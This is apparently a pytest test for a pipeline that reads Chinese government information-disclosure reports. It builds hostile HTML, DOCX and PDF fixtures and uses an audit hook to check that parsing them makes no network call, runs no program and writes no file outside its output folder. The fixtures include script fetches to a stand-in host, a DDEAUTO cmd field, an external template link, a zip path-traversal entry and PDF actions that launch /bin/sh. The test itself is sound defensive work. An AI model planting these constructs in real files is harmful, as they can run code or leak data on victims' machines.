"""A build of hostile documents: it asks no network, starts no program and writes nowhere else."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from analysis.paths import RAW

TITLE = "甲市2020年政府信息公开工作年度报告"
PAGE = f"""<html><head><title>{TITLE}</title><base href="http://192.0.2.1/">
<meta http-equiv="refresh" content="0;url=http://192.0.2.1/"><script src="http://192.0.2.1/a.js">
</script><script>document.title = "乙市"; fetch("http://192.0.2.1/")</script>
<link rel="stylesheet" href="http://192.0.2.1/a.css"></head><body onload="alert(1)">
<p>收到政府信息公开申请3件。</p><img src="file:///etc/passwd"><iframe src="http://192.0.2.1/">
</iframe><object data="http://192.0.2.1/"></object></body></html>"""
LINKED = """<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>{0}</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/>
<w:instrText>DDEAUTO cmd "/c touch pwned"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>
<w:r><w:t>收到政府信息公开申请4件。</w:t></w:r></w:p></w:body></w:document>"""
RELATIONS = """<Relationships
xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" {0}
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{1}"/></Relationships>"""
OUTSIDE = RELATIONS.format(
    'TargetMode="External" Target="http://192.0.2.1/a.dotm"', "attachedTemplate"
)
WATCHED = """
import json, os, sys
import analysis
from analysis.documents import pdf, sheets, word
seen = []
apart = os.path.realpath(sys.argv[2])
def watch(event, given):
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn",
        "os.fork", "urllib", "webbrowser")) and event != "socket.gethostname":
        seen.append(event)
    writes = event == "open" and given[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
    if writes and isinstance(given[0], (str, bytes, os.PathLike)):
        path = os.path.realpath(os.fsdecode(given[0]))
        if not path.startswith((apart, "/dev/null")):
            seen.append(path)
sys.addaudithook(watch)
analysis.build(sys.argv[1], os.path.join(apart, "out"), jobs=0)
print(json.dumps(seen))
"""


def make_word_file() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("word/document.xml", LINKED.format(TITLE))
        main = RELATIONS.format('Target="word/document.xml"', "officeDocument")
        archive.writestr("_rels/.rels", main)
        archive.writestr("word/_rels/settings.xml.rels", OUTSIDE)
        archive.writestr("word/_rels/document.xml.rels", OUTSIDE)
        archive.writestr("word/vbaProject.bin", b"Shell")
        archive.writestr("../../escaped.txt", b"a")
    return data.getvalue()


def make_pdf() -> bytes:
    """A page whose opening runs a script, starts a program and asks a server."""
    actions = (
        b"<</S/JavaScript/JS(app.launchURL('http://192.0.2.1/'))/Next[<</S/Launch/F(/bin/sh)>>"
        b"<</S/URI/URI(http://192.0.2.1/)>>]>>"
    )
    parts = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction " + actions + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O " + actions + b">>>>",
    ]
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, part) for n, part in enumerate(parts, 1))
    return b"%PDF-1.4\n" + body + b"trailer<</Size 4/Root 1 0 R>>\n%%EOF"


@pytest.fixture
def source(tmp_path: Path) -> Path:
    folder = tmp_path / "source"
    folder.mkdir()
    (folder / "page.html").write_text(PAGE, "utf-8")
    mail = f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{PAGE}"
    (folder / "mail.mht").write_bytes(mail.encode())
    (folder / "linked.docx").write_bytes(make_word_file())
    (folder / "actions.pdf").write_bytes(make_pdf())
    (folder / "sound.txt").write_bytes((RAW / "pingtan-2021.txt").read_bytes())
    return folder


@pytest.mark.skipif(sys.platform == "win32", reason="paths and devices of POSIX")
def test_build_of_hostile_documents_reaches_nothing(source: Path, tmp_path: Path) -> None:
    """Scripts, links, macros, actions and paths in archives: Python's own audit sees no socket, no
    program and no file written elsewhere; the documents are read all the same.
    """
    command = [sys.executable, "-B", "-c", WATCHED, str(source), str(tmp_path / "apart")]
    (tmp_path / "apart").mkdir()
    done = subprocess.run(command, capture_output=True, text=True, check=True, cwd=tmp_path)
    assert json.loads(done.stdout.splitlines()[-1]) == []
    import analysis

    data = analysis.load(tmp_path / "apart" / "out")
    said = data["statements"].join(data["reports"].select("report_id", "source"), on="report_id")
    read = set(said.filter(key="applications.new").select("source", "value").iter_rows())
    assert {("linked.docx", 4.0), ("page.html", 3.0), ("mail.mht", 3.0)} <= read
    assert set(data["reports"]["source"]) == {"page.html", "mail.mht", "linked.docx", "sound.txt"}
    assert set(data["reports"].filter(source="page.html")["title"]) == {TITLE}
    assert data["problems"].filter(source="actions.pdf", severity="error").height
    assert {path.name for path in tmp_path.iterdir()} == {"source", "apart"}
